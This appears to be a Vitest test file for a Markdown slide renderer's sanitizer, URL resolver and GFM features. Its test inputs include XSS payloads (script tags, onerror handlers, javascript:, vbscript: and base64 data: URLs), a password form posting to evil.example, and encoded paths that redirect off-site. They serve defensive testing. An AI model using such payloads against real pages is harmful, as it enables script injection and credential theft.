import { describe, expect, it, vi } from "vitest";
import { renderSlideHtml, safeLinks, sanitizeUrl, shallowestHeading, type RenderOptions } from "./render";
import { parseMarkdown } from "./split";

function render(markdown: string, options?: RenderOptions): string {
  return renderSlideHtml(parseMarkdown(markdown), options);
}

/** Tag names of the headings in rendered HTML, in order. */
function headings(html: string): string[] {
  return [...html.matchAll(/<(h[1-6])>/g)].map((match) => match[1]!);
}

describe("renderSlideHtml: sanitizing raw HTML", () => {
  it("drops <script> with its code", () => {
    const html = render("Before\n\n<script>alert('xss')</script>\n\nAfter");
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toContain("alert");
    expect(html).toContain("<p>Before</p>");
    expect(html).toContain("<p>After</p>");
  });

  it("drops event handler attributes but keeps the element", () => {
    const html = render('<img src="diagram.png" alt="Diagram" onerror="alert(1)">\n\n<p onclick="steal()">Text</p>');
    expect(html).not.toMatch(/onerror|onclick|alert|steal/);
    expect(html).toContain('src="diagram.png"');
    expect(html).toContain('alt="Diagram"');
    expect(html).toContain("<p>Text</p>");
  });

  it("drops javascript: URLs from Markdown and HTML links", () => {
    const html = render('[click](javascript:alert(1))\n\n<a href="javascript:alert(2)">raw</a>\n\n<a href="JaVaScRiPt:alert(3)">mixed</a>');
    expect(html).not.toMatch(/javascript:/i);
    expect(html).toContain("<a>click</a>");
    expect(html).toContain("<a>raw</a>");
  });

  it("drops <iframe>, <style> (with its CSS) and <form>", () => {
    const html = render(
      [
        '<iframe src="https://evil.example/"></iframe>',
        "<style>body { display: none }</style>",
        '<form action="https://evil.example/collect" method="post"><input type="text" name="password"><button type="submit">Send</button></form>',
      ].join("\n\n"),
    );
    expect(html).not.toMatch(/<iframe|<style|<form|evil\.example|action=|type="text"|<button/i);
    expect(html).not.toContain("display: none");
  });

  it("drops inline styles and author classes, and prefixes ids so they cannot clobber the page", () => {
    const html = render('<div id="main" class="hidden" style="position:fixed">x</div>');
    expect(html).toBe('<div id="user-content-main">x</div>');
  });

  it("keeps <kbd> and <details>/<summary>", () => {
    const html = render("Press <kbd>Ctrl</kbd>+<kbd>C</kbd>.\n\n<details>\n<summary>Show the answer</summary>\n\nThe **root** user.\n\n</details>");
    expect(html).toContain("<kbd>Ctrl</kbd>+<kbd>C</kbd>");
    expect(html).toMatch(/<details>\s*<summary>Show the answer<\/summary>[\s\S]*<strong>root<\/strong>[\s\S]*<\/details>/);
  });
});

describe("renderSlideHtml: GitHub Flavored Markdown", () => {
  it("renders a table inside a focusable, labelled scroll region", () => {
    const html = render("| Key | Action |\n| --- | --- |\n| → | Next |");
    expect(html).toMatch(/^<div class="table-scroll" tabindex="0" role="region" aria-label="Table"><table>/);
    expect(html).toContain("<th>Key</th>");
    expect(html).toContain("<td>Next</td>");
    expect(html).toMatch(/<\/table><\/div>$/);
    expect(html.match(/table-scroll/g)).toHaveLength(1);
  });

  it("wraps every table of a slide", () => {
    const html = render("| a |\n| - |\n| 1 |\n\ntext\n\n| b |\n| - |\n| 2 |");
    expect(html.match(/<div class="table-scroll"[^>]*><table>/g)).toHaveLength(2);
  });

  it("renders strikethrough and autolinks", () => {
    const html = render("~~old~~ and https://example.com/docs");
    expect(html).toBe('<p><del>old</del> and <a href="https://example.com/docs" class="bare-url">https://example.com/docs</a></p>');
  });

  it("renders task lists with disabled checkboxes named by their item's text", () => {
    const html = render("- [x] Turn on MFA\n- [ ] Remove the root access keys");
    expect(html).toContain('<input type="checkbox" checked disabled aria-label="Turn on MFA">');
    expect(html).toContain('<input type="checkbox" disabled aria-label="Remove the root access keys">');
  });

  it("highlights fenced code at build time, makes the block focusable and labels it with its language", () => {
    const html = render("```ts\nconst answer: number = 42;\n```");
    expect(html).toMatch(
      /^<div class="code-block"><div class="code-block-bar"><span class="code-block-language">ts<\/span><\/div><pre tabindex="0"><code class="hljs language-ts">/,
    );
    expect(html).toContain('<span class="hljs-keyword">const</span>');
    expect(html).toContain('<span class="hljs-number">42</span>');
    expect(html).toMatch(/<\/code><\/pre><\/div>$/);
  });

  it("does not guess the language of a fence without one, and gives it no label", () => {
    const html = render("```\nconst x = 1;\n```");
    expect(html).toBe('<div class="code-block"><div class="code-block-bar"></div><pre tabindex="0"><code>const x = 1;\n</code></pre></div>');
  });

  it("labels a language it cannot colour, and code blocks inside lists, once each", () => {
    const html = render("- Step one:\n\n  ```hcl\n  resource {}\n  ```\n");
    expect(html.match(/class="code-block"/g)).toHaveLength(1);
    expect(html).toContain('<span class="code-block-language">hcl</span></div><pre tabindex="0"><code class="hljs language-hcl">resource {}');
  });

  it("keeps the label out of raw HTML's reach: an info string is text, and authors' classes are still dropped", () => {
    const html = render('```html" onmouseover="alert(1)\nx\n```\n\n<div class="code-block-bar">raw</div>');
    expect(html).not.toMatch(/onmouseover=/);
    expect(html).toContain('<span class="code-block-language">html"</span>');
    expect(html).toContain("<div>raw</div>");
  });

  it("marks links whose text is their own address, so print does not repeat it", () => {
    const html = render("See https://example.com, <https://example.org/a>, www.example.net, [the docs](https://docs.example.com/) and <me@example.com>.");
    expect(html).toContain('<a href="https://example.com" class="bare-url">https://example.com</a>');
    expect(html).toContain('<a href="https://example.org/a" class="bare-url">https://example.org/a</a>');
    expect(html).toContain('<a href="http://www.example.net" class="bare-url">www.example.net</a>');
    expect(html).toContain('<a href="https://docs.example.com/">the docs</a>');
    expect(html).toContain('<a href="mailto:me@example.com" class="bare-url">me@example.com</a>');
  });
});

describe("renderSlideHtml: headings", () => {
  it("shifts the shallowest heading to h2 by default", () => {
    expect(headings(render("### Three\n\n#### Four\n\n###### Six"))).toEqual(["h2", "h3", "h5"]);
    expect(headings(render("# One\n\n## Two"))).toEqual(["h2", "h3"]);
    expect(headings(render("## Two\n\n### Three"))).toEqual(["h2", "h3"]);
  });

  it("shifts to the level asked for, never past h6", () => {
    expect(headings(render("# One\n\n###### Six", { topHeadingLevel: 3 }))).toEqual(["h3", "h6"]);
    expect(headings(render("#### Four\n\n##### Five", { topHeadingLevel: 1 }))).toEqual(["h1", "h2"]);
  });

  it("counts raw HTML headings too", () => {
    expect(headings(render("<h1>Raw</h1>\n\n### Markdown"))).toEqual(["h2", "h4"]);
  });

  it("leaves a slide without headings alone", () => {
    expect(render("Just text.")).toBe("<p>Just text.</p>");
  });

  it("does not change the tree it was given", () => {
    const tree = parseMarkdown("### Three\n\n![a](a.png)");
    const before = structuredClone(tree);
    renderSlideHtml(tree, { resolveUrl: () => "/elsewhere.png" });
    expect(tree).toEqual(before);
  });
});

describe("shallowestHeading", () => {
  it("finds the smallest depth, or undefined", () => {
    expect(shallowestHeading(parseMarkdown("#### a\n\n### b\n\n##### c"))).toBe(3);
    expect(shallowestHeading(parseMarkdown("text"))).toBeUndefined();
  });
});

describe("renderSlideHtml: URLs", () => {
  it("passes relative image and link URLs to resolveUrl and uses its answer", () => {
    const resolveUrl = vi.fn((url: string, use: "image" | "link") => `/resolved/${use}/${url}`);
    const html = render("![Diagram](images/diagram.png)\n\n[Next lesson](2024-3-15-next.md#top)", { resolveUrl });
    expect(resolveUrl.mock.calls).toEqual([
      ["images/diagram.png", "image"],
      ["2024-3-15-next.md#top", "link"],
    ]);
    expect(html).toContain('<img src="/resolved/image/images/diagram.png" alt="Diagram" loading="lazy" decoding="async">');
    expect(html).toContain('<a href="/resolved/link/2024-3-15-next.md#top">Next lesson</a>');
  });

  it("resolves URLs in raw HTML too", () => {
    const resolveUrl = vi.fn(() => "/content-assets/a.png");
    expect(render('<img src="a.png" alt="A">', { resolveUrl })).toContain('src="/content-assets/a.png"');
    expect(resolveUrl).toHaveBeenCalledWith("a.png", "image");
  });

  it("keeps the URL as written when resolveUrl returns undefined", () => {
    const resolveUrl = vi.fn(() => undefined);
    const html = render("![x](images/x.png) [site](https://example.com/)", { resolveUrl });
    expect(resolveUrl).toHaveBeenCalledTimes(2);
    expect(html).toContain('src="images/x.png"');
    expect(html).toContain('href="https://example.com/"');
  });

  it("keeps URLs as written without a resolver, and makes images lazy", () => {
    expect(render("![x](images/x.png)")).toBe('<p><img src="images/x.png" alt="x" loading="lazy" decoding="async"></p>');
  });

  it("sanitizes what the resolver answers: URLs are resolved first, then sanitized", () => {
    const resolveUrl = vi.fn((url: string) => (url === "a.png" ? "javascript:alert(1)" : "data:text/html,<script>alert(1)</script>"));
    const html = render('![a](a.png)\n\n[b](b.html) <img src="c.png" alt="c">', { resolveUrl });
    expect(resolveUrl).toHaveBeenCalledTimes(3);
    expect(html).not.toMatch(/javascript:|data:|alert/);
    expect(html).toContain('<img alt="a" loading="lazy" decoding="async">');
    expect(html).toContain("<a>b</a>");
  });

  it("never takes an answer that names another site for a path of this one (BASE_PATH \"\")", () => {
    // A resolver that decodes root paths, as ours once did: `/%2Fhost` would become `//host`.
    const decodingResolver = (url: string) => decodeURIComponent(url);
    const cases: [written: string, resolvesTo: string][] = [
      ["/%2Fevil.example/a.png", "//evil.example/a.png"],
      ["/%5Cevil.example/a.png", "/\\evil.example/a.png"],
      ["/%09/evil.example/a.png", "/\t/evil.example/a.png"],
      ["%20%2F%2Fevil.example/a.png", " //evil.example/a.png"],
    ];
    for (const [written, resolvesTo] of cases) {
      expect(decodingResolver(written)).toBe(resolvesTo);
      const html = render(`![x](${written}) [x](${written})`, { resolveUrl: decodingResolver });
      expect(html, written).toBe(`<p><img src="${written}" alt="x" loading="lazy" decoding="async"> <a href="${written}">x</a></p>`);
    }
  });
});

describe("footnotes", () => {
  const footnoted = "### Topic\n\nText[^1].\n\n[^1]: The note.";

  it("link to their note and back through the sanitized ids", () => {
    const html = renderSlideHtml(parseMarkdown(footnoted), { idPrefix: "s2-" });
    const ids = [...html.matchAll(/ id="([^"]+)"/g)].map((match) => match[1]);
    const targets = [...html.matchAll(/ href="#([^"]+)"/g)].map((match) => match[1]);
    expect(targets.length).toBeGreaterThan(0);
    for (const target of targets) expect(ids).toContain(target);
    expect(ids.every((id) => id?.includes("s2-"))).toBe(true);
  });

  it("keep their hidden label out of the author's heading levels", () => {
    const html = renderSlideHtml(parseMarkdown(footnoted));
    expect(html).toContain("<h2>Topic</h2>");
    expect(html).toMatch(/<h2 class="sr-only" id="user-content-footnote-label">Footnotes<\/h2>/);
  });
});

describe("sanitizeUrl and safeLinks: URLs that reach the page without the renderer (quiz sources)", () => {
  const SCRIPT_URLS = [
    "javascript:window.__pwned=true",
    "JaVaScRiPt:alert(1)",
    "  javascript:alert(1)",
    "java\tscript:alert(1)",
    "vbscript:msgbox",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "livescript:alert(1)",
  ];

  it("drops script, vbscript and data URLs, as the renderer does for Markdown links", () => {
    for (const url of SCRIPT_URLS) {
      expect(sanitizeUrl(url), url).toBeUndefined();
      expect(render(`[x](<${url.trim()}>)`), url).not.toMatch(/href=/);
    }
  });

  it("keeps web, mail and relative URLs exactly as written", () => {
    for (const url of ["https://docs.aws.amazon.com/IAM/?a=1#x", "http://example.com", "mailto:someone@example.com", "handout.pdf", "/assets/x.png", "#top", "./a:b"]) {
      expect(sanitizeUrl(url), url).toBe(url);
    }
    expect(sanitizeUrl("https://example.com/x.png", "image")).toBe("https://example.com/x.png");
    expect(sanitizeUrl("data:image/png;base64,AAAA", "image")).toBeUndefined();
  });

  it("filters a quiz's Source: links, keeping the safe ones with their labels", () => {
    const sources = [
      { url: "javascript:window.__pwned=true", label: "Q04 javascript source" },
      { url: "data:text/html,<script>alert(1)</script>", label: "Q04 data source" },
      { url: "vbscript:msgbox", label: "Q04 vbscript source" },
      { url: "https://example.invalid/docs", label: "Q05 fine source" },
    ];
    expect(safeLinks(sources)).toEqual([{ url: "https://example.invalid/docs", label: "Q05 fine source" }]);
    expect(safeLinks([])).toEqual([]);
  });
});
